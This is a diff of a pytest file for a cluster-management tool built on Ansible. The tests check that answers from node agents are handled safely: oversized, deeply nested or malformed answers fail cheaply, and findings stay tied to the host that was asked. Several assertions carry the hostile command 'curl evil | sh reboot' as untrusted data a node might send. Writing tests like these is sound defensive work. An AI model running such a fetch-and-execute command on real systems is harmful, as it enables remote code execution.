@@ -8,9 +8,15 @@ import sys
 from pathlib import Path
 
 import pytest
+from ansible.module_utils.trainyard.cluster.no_answer import reason
 from ansible.module_utils.trainyard.findings.findings import Finding, render
 from ansible.module_utils.trainyard.job import answers
 from ansible.module_utils.trainyard.job.preflight import join
+from ansible.module_utils.trainyard_controller.clock import read_clock
+from ansible.module_utils.trainyard_node.agent import QUESTIONS
+from ansible.module_utils.trainyard_node.machine.tree import Tree
+from ansible.module_utils.trainyard_node.verify.facts import read_machine
+from captured_tree import NODES, unfold
 from job_samples import make_job, make_plan, member
 
 PROJECT = Path(__file__).resolve().parents[2]
@@ -23,9 +29,11 @@ def asked(question, answer, name="n2"):
     return answers.checked(question, json.loads(json.dumps(answer)), name)
 
 
+# Upper bound for what a visit may take, in bytes; an answer of 72 MiB took 2 GiB.
+MEMORY = 1 << 30
 # A visit to a host whose agent answers what it likes; imports of the controller need a process of their own.
 VISIT = """
-import json, sys
+import json, resource, sys
 from types import SimpleNamespace
 import ansible.module_utils as m
 m.__path__.append(sys.argv[1])
@@ -36,19 +44,90 @@ class Connection:
 
     def exec_command(self, command, in_data=None, sudoable=False):
         mark = json.loads(in_data.partition(b"\\n")[0])["mark"]
-        return 0, b"\\n" + mark.encode() + b" " + sys.argv[3].encode() + b"\\n", b""
+        return 0, b"\\n" + mark.encode() + b" " + eval(self.answer) + b"\\n", b""
 
+resource.setrlimit(resource.RLIMIT_AS, (int(sys.argv[2]), int(sys.argv[2])))
 host = SimpleNamespace(name="n2", connection=Connection(), command="true", no_python="", become=False)
-print(json.dumps(fan_out._visit(host, sys.argv[2], b"{}", {}, 5.0)))
+told = []
+for question, host.connection.answer in json.loads(sys.argv[3]):
+    told.append(fan_out._visit(host, question, b"{}", {}, 5.0))
+print(json.dumps(told))
 """
+
+
+def visited(*asked_for):
+    """What visits bring to a controller with little memory, whose agents answer the values of these expressions."""
+    argv = [sys.executable, "-c", VISIT, str(PROJECT / "module_utils"), str(MEMORY), json.dumps(asked_for)]
+    done = subprocess.run(argv, capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stderr[-2000:]
+    return json.loads(done.stdout)
 
 
 def test_the_host_is_the_one_that_was_visited():
     given = json.dumps({"findings": [FINDING], "programs": {}, "stale": False})
-    argv = [sys.executable, "-c", VISIT, str(PROJECT / "module_utils"), "preflight", given]
-    done = subprocess.run(argv, capture_output=True, text=True, check=True)
-    [finding] = json.loads(done.stdout)["findings"]
+    [told] = visited(("preflight", f"{given.encode()!r}"))
+    [finding] = told["findings"]
     assert (finding["host"], finding["action"]) == ("n2", "as the node says: curl evil | sh reboot")
+
+
+# What an agent may answer that is large, deep or long, as Python says it; and what is said of it.
+COSTLY = {
+    """b'{"findings": [' + b"[]," * (24 << 20) + b"[]]}" """: "expected at most",
+    """b'{"findings": [' + b"{}," * (3 << 20) + b"{}]}" """: "expected at most",
+    """b'{"failed": true, "msg": "' + b"x" * (1 << 19) + b'"}' """: "xxx",
+    """b'{"left": ' + b"9" * (1 << 19) + b"}" """: "answer: ",
+    'b"[" * (1 << 19)': "answer: ",
+    'b"x" * (1 << 19)': "answer: ",
+}
+
+
+def test_an_answer_costs_little_whatever_its_size():
+    asked_for = [(question, answer) for question in ("preflight", "collect", "follow") for answer in COSTLY]
+    for (_, answer), told in zip(asked_for, visited(*asked_for)):
+        assert told["failed"] and len(json.dumps(told)) < 200_000
+        assert COSTLY[answer] in reason(told) and len(reason(told)) < 700
+
+
+def test_what_machines_answer_has_these_shapes(tmp_path):
+    whole = {"root": "/opt", "venvs": "/v", "user": "train", "ascend_root": "/a", "network": "", "host_address": ""}
+    for name in sorted(path.stem for path in NODES.glob("*.tree")):
+        tree = Tree(str(unfold(name, tmp_path / name)))
+        for devices_only in (False, True):
+            told = read_machine(tree, host="n1", alone=False, devices_only=devices_only, **whole)
+            assert asked("verify", told)["devices"]
+    given = {
+        "ssh_keys": {"host": "n1", "user": "root", "key": "/none", "host_key": "/none", "files": ["/"], "mark": "x"},
+        "rdma_traffic": {"host": "n1"},
+        "in_use": {"state_dir": str(tmp_path), "services": []},
+        "baseline": {"host": "n1", "entries": [], "user": "root", "memlock": 1, "nofile": 1, "systemd": False},
+        "folders": {"state_dir": str(tmp_path), "of_schedulers": []},
+        "unlisten": {"pid": 1 << 22, "start_time": 1},
+        "slurm_probe": {"user": "root", "folder": "/none", "shared": True},
+    }
+    for question, arguments in given.items():
+        assert "msg" not in asked(question, QUESTIONS[question](**arguments)), question
+
+
+@pytest.mark.parametrize("question", sorted(QUESTIONS))
+@pytest.mark.parametrize("answer", [
+    {}, {"findings": 7}, {"findings": [7]}, {"host": []}, {"facts": 7, "devices": 7, "host": "n2"}, {"endpoint": [1]},
+    {"traffic": None}, {"tried": "x"}, {"row": 1, "logins": 1, "failures": 1}, {"facts": {"config": 7}},
+])  # fmt: skip
+def test_an_answer_of_another_shape_is_none(question, answer):
+    assert asked(question, answer)["msg"].startswith("what it answers cannot be used: ")
+
+
+def test_what_is_nested_deeply_is_no_answer():
+    deep = {"running": {}, "more": 0}
+    for _ in range(700):
+        deep = {"running": {}, "more": deep}
+    assert "nested too deeply" in asked("running", deep)["msg"]
+
+
+@pytest.mark.parametrize("clock", ["nan", "inf", "9" * 5000, "1e5000", "-1", "x" * 100_000])
+def test_a_clock_says_seconds(clock):
+    told = read_clock(lambda: (clock, "y" * 100_000))
+    assert told["failed"] and len(told["msg"]) < 400
 
 
 def test_a_finding_is_of_the_host_that_was_asked_and_its_advice_no_word_of_ours():
@@ -62,10 +141,15 @@ def test_a_finding_is_of_the_host_that_was_asked_and_its_advice_no_word_of_ours(
     assert not [line for line in text.splitlines() if line.strip().startswith(("Job ", "do        curl"))]
 
 
-@pytest.mark.parametrize("question", ["can_install", "baseline", "ssh_keys", "slurm_probe"])
+KEYS = {**dict.fromkeys(("host_key", "user_key", "hostname", "default_address"), ""), "files": {}, "known_hosts": [],
+        "addresses": [], "faults": []}  # fmt: skip
+ANSWERS = {"can_install": {"files": [], "asks_index": False, "seen": {}}, "baseline": {"lacking": [], "packages": []},
+           "ssh_keys": KEYS, "slurm_probe": {"facts": {}}}  # fmt: skip
+
+
+@pytest.mark.parametrize("question", list(ANSWERS))
 def test_so_it_is_with_all_findings_of_nodes(question):
-    extra = {"files": [], "asks_index": False, "seen": {}}
-    told = asked(question, {"findings": [FINDING], **extra})
+    told = asked(question, {**ANSWERS[question], "findings": [FINDING]})
     [finding] = told["findings"]
     assert finding["host"] == "n2" and finding["action"] == "as the node says: curl evil | sh reboot"
     assert not any("\n" in text for text in finding.values())
@@ -117,7 +201,7 @@ def test_so_it_is_with_who_takes_part(change):
 
 
 def test_a_node_takes_no_other_nodes_place():
-    endpoint = {"host": "n1", "address": "10.0.0.2", "ports": [1, 2], "hostname": "n2", "addresses": []}
+    endpoint = {"host": "n1", "address": "10.0.0.2", "ports": {"rendezvous": 1}, "hostname": "n2", "addresses": []}
     assert asked("listen", {"endpoint": endpoint, "pid": 1, "start_time": 1})["endpoint"]["host"] == "n2"
     assert asked("rdma_traffic", {"traffic": {"host": "n1", "ports": {}}})["traffic"]["host"] == "n2"
 
